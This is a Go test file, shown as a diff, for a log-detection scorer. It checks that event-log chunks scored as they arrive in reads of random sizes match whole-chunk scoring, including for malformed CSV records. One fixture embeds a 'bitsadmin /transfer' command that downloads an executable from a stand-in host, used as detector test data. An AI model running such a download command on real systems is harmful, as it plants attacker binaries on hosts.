@@ -1,0 +1,169 @@
+package command
+
+import (
+	"bytes"
+	"math/rand/v2"
+	"strings"
+	"testing"
+
+	"bitsscore/src/detect"
+	"bitsscore/src/detect/modes"
+	"bitsscore/src/internal/testevents"
+)
+
+// deliver feeds body to a as scp's ReadMessageFunc would: growing
+// prefixes of one buffer, cut into reads of random sizes up to maxRead,
+// the buffer's capacity the whole body (the warm buffer of a session
+// past its first chunk) or, with growing, 1 MiB at first and then the
+// rest (a session's first chunk).
+func deliver(a *arrival, body []byte, rng *rand.Rand, maxRead int, growing bool) {
+	buf := make([]byte, 0, len(body))
+	if growing {
+		buf = make([]byte, 0, min(len(body), 1<<20))
+	}
+	for len(buf) < len(body) {
+		if len(buf) == cap(buf) {
+			grown := make([]byte, len(buf), len(body))
+			copy(grown, buf)
+			buf = grown
+		}
+		n := min(1+rng.IntN(maxRead), cap(buf)-len(buf), len(body)-len(buf))
+		buf = append(buf, body[len(buf):len(buf)+n]...)
+		a.arrived(buf, len(body))
+	}
+}
+
+// Scored as it arrives, in reads of any size, a chunk's reply is byte for
+// byte the reply scored in one piece, and its error the same error, in
+// both modes: for well-formed bodies, for ones that mislead quote parity,
+// for records longer than the window a run's end is looked for in, and
+// for bodies with a malformed record at the start, the middle or the end.
+func TestArrivalEqualsSequential(t *testing.T) {
+	newHardened := func() detect.Detector {
+		d, err := modes.New(modes.Hardened, modes.Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return d
+	}
+	big := testevents.Body(12000, 11) // about 2.7 MB
+	lines := strings.SplitAfter(string(big), "\n")
+	withLine := func(i int, line string) []byte {
+		l := append([]string(nil), lines...)
+		l[i] = line
+		return []byte(strings.Join(l, ""))
+	}
+	long := `"` + strings.Repeat("x", 200<<10) + ` bitsadmin /transfer j http://a.example/x.exe C:\x.exe","C:\Windows\System32\bitsadmin.exe",7,,,` + "\n"
+	bodies := map[string][]byte{
+		"realistic": big,
+		// A stray quote inside an unquoted cell flips quote parity for
+		// everything after it.
+		"stray quote":              bytes.Replace(big, []byte("\n\"taskhostw.exe "), []byte("\ntaskhostw\".exe "), 1),
+		"record longer than a run": withLine(6000, long),
+		// An unterminated quote misleads parity for the rest of the body;
+		// a short record and bytes after a closing quote do not, so runs
+		// cut past them and the error comes from a run scored early.
+		"unterminated quote":         withLine(40, "\"unterminated,x,1,,,\n"),
+		"short record in the middle": withLine(6000, "a,b\n"),
+		"text after a closing quote": withLine(7000, "\"x\"y,z,1,,,\n"),
+		"short record at the end":    withLine(len(lines)-2, "a,b\n"),
+	}
+	for name, body := range bodies {
+		for _, mode := range []struct {
+			name string
+			new  func() detect.Detector
+		}{{"spl", detect.NewSPL}, {"hardened", newHardened}} {
+			t.Run(name+"/"+mode.name, func(t *testing.T) {
+				want, wantErr := scoreBody(t, newChunkScorer(mode.new()), body)
+				p := newParallelScorer(mode.new, 2)
+				rng := rand.New(rand.NewPCG(uint64(len(body)), 7))
+				scoredEarly := false
+				for i, maxRead := range []int{1 << 20, 64 << 10, 300 << 10, 7919} {
+					a := p.beginArrival()
+					deliver(a, body, rng, maxRead, i%2 == 0)
+					parts, early, err := a.finish(body)
+					if wantErr != nil {
+						if err == nil || err.Error() != wantErr.Error() {
+							t.Fatalf("reads of up to %d: error %v, want %v", maxRead, err, wantErr)
+						}
+						continue
+					}
+					if err != nil {
+						t.Fatalf("reads of up to %d: %v", maxRead, err)
+					}
+					if got := checkedReply(t, parts); !bytes.Equal(got, want) {
+						t.Fatalf("reads of up to %d: reply differs from the sequential one (%d vs %d bytes)", maxRead, len(got), len(want))
+					}
+					scoredEarly = scoredEarly || early > 0
+				}
+				// The path under test ran: what arrives in reads was scored
+				// as it arrived, where the body allows it.
+				if (name == "realistic" || name == "record longer than a run") && !scoredEarly {
+					t.Error("nothing was scored as it arrived")
+				}
+			})
+		}
+	}
+}
+
+// A small chunk, a chunk that arrives whole, and a session with one
+// worker are scored when whole, as before.
+func TestArrivalOnlyForLargeChunksInPieces(t *testing.T) {
+	rng := rand.New(rand.NewPCG(1, 2))
+	small := testevents.Body(1000, 3)
+	large := testevents.Body(8000, 4)
+	for _, tt := range []struct {
+		name    string
+		body    []byte
+		workers int
+		maxRead int
+	}{
+		{"small chunk", small, 2, 4096},
+		{"large chunk in one read", large, 2, len(large)},
+		{"one worker", large, 1, 64 << 10},
+	} {
+		p := newParallelScorer(detect.NewSPL, tt.workers)
+		a := p.beginArrival()
+		if tt.maxRead == len(tt.body) {
+			a.arrived(tt.body, len(tt.body))
+		} else {
+			deliver(a, tt.body, rng, tt.maxRead, false)
+		}
+		if a.active {
+			t.Errorf("%s: scored as it arrived", tt.name)
+		}
+		if _, early, err := a.finish(tt.body); err != nil || early != 0 {
+			t.Errorf("%s: %d bytes scored early, err %v", tt.name, early, err)
+		}
+	}
+}
+
+// A chunk cut short is stopped: the early worker ends, and the scorer
+// scores the next chunk as if nothing had happened.
+func TestArrivalStoppedMidway(t *testing.T) {
+	body := testevents.Body(12000, 5)
+	p := newParallelScorer(detect.NewSPL, 2)
+	a := p.beginArrival()
+	buf := make([]byte, 0, len(body))
+	for len(buf) < len(body)/2 {
+		buf = append(buf, body[len(buf):len(buf)+64<<10]...)
+		a.arrived(buf, len(body))
+	}
+	if !a.active {
+		t.Fatal("half a large chunk in 64 KiB reads was not being scored")
+	}
+	a.stop()
+	want, err := scoreBody(t, newChunkScorer(detect.NewSPL()), body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	a = p.beginArrival()
+	deliver(a, body, rand.New(rand.NewPCG(3, 4)), 128<<10, false)
+	parts, _, err := a.finish(body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := checkedReply(t, parts); !bytes.Equal(got, want) {
+		t.Error("the chunk after a stopped one differs from the sequential reply")
+	}
+}
